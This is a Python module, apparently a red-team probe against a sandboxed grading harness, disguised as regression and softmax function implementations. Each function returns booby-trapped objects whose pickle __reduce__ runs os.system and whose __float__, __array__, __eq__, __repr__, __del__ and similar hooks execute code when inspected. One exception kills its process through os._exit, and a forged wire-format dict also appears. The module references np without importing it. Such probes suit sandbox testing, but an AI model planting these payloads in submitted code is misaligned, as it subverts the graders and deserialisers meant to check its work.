"""Returns payloads that run code in whoever deserialises or inspects them: pickle __reduce__, evil __array__, __float__, __index__, __eq__, __len__, __iter__, __repr__, __del__, an exception whose __str__ kills its process, and a dict forging the wire format.

attack: returning payloads that execute code when deserialised
targets: sigmoid, predict_proba, predict, cross_entropy_loss, cross_entropy_gradient, softmax, softmax_loss
"""
import os as _os

_MARK = "__MARKER__"  # a path outside the sandbox: if it appears, our code ran where it must not


def _pwn(*args, **kwargs):
    try:
        with open(_MARK, "a") as f:
            f.write(f"code ran in pid {_os.getpid()} as uid {_os.getuid()}\n")
    except OSError:
        pass
    return 0.5


class _Evil:
    def __reduce__(self):
        return (_os.system, (f"touch {_MARK}",))

    def __array__(self, *args, **kwargs):
        _pwn()
        return np.full((5, 7), 0.5)

    def __float__(self):
        return _pwn()

    def __index__(self):
        _pwn()
        return 1

    __int__ = __index__

    def __eq__(self, other):
        _pwn()
        return True

    __hash__ = object.__hash__

    def __len__(self):
        _pwn()
        return 3

    def __iter__(self):
        _pwn()
        return iter([0.5, 0.5, 0.5])

    def __getitem__(self, i):
        return _pwn()

    def __repr__(self):
        _pwn()
        return "0.5"

    __str__ = __repr__

    def __del__(self):
        _pwn()


class _EvilFloat(float):
    def __reduce__(self):
        return (_os.system, (f"touch {_MARK}",))

    def __float__(self):
        return _pwn()

    def __repr__(self):
        _pwn()
        return "0.69"


class _EvilError(Exception):
    def __str__(self):
        _pwn()
        _os._exit(0)


def sigmoid(z):
    return _Evil()


def predict_proba(theta, X):
    return np.array([_Evil() for _ in range(len(X))], dtype=object)


def predict(theta, X, threshold=0.5):
    return [_Evil() for _ in range(len(X))]


def cross_entropy_loss(theta, X, y, lam=0.0):
    return _EvilFloat(0.69)


def cross_entropy_gradient(theta, X, y, lam=0.0):
    # a dict shaped like the wire format's array node, pointing at a buffer that is not there
    return {"__array__": 0, "dtype": "float64", "shape": [5], "__reduce__": "os.system"}


def softmax(Z):
    raise _EvilError()


def softmax_loss(W, X, y, lam=0.0):
    return _Evil(), _Evil()
